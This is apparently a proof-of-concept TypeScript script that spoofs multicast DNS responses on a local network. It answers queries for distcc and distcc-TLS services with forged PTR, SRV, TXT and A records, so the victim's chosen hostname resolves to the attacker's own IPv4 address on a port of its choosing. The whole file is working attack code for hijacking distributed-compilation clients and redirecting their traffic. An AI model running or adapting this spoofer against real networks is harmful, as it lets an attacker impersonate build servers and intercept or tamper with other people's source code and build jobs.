// Run within a network: claims by multicast DNS to be another's host, on a port of its own.
import os from 'node:os';
import type { Answer } from 'dns-packet';
import multicastDns from 'multicast-dns';

const [target = 'red.local', port = '1'] = process.argv.slice(2);
const addresses = Object.values(os.networkInterfaces()).flat();
const address = addresses.find((each) => each?.family === 'IPv4' && !each.internal)?.address ?? '';

const mdns = multicastDns({ interface: address, bind: '0.0.0.0' });
mdns.on('query', ({ questions = [] }, from) => {
  const names = questions.map(({ name }) => name.toLowerCase());
  const services = ['_distccs._tcp.local', '_distcc._tcp.local'];
  for (const service of services.filter((each) => names.includes(each))) {
    const name = `evil.${service}`;
    const answers: Answer[] = [
      { name: service, type: 'PTR', data: name },
      { name, type: 'SRV', data: { target, port: Number(port) } },
      { name, type: 'TXT', data: [`tls=${port}`] },
      { name: target, type: 'A', data: address },
    ];
    mdns.respond({ answers });
    mdns.respond({ answers }, from); // to who asks from a port of its own
  }
});
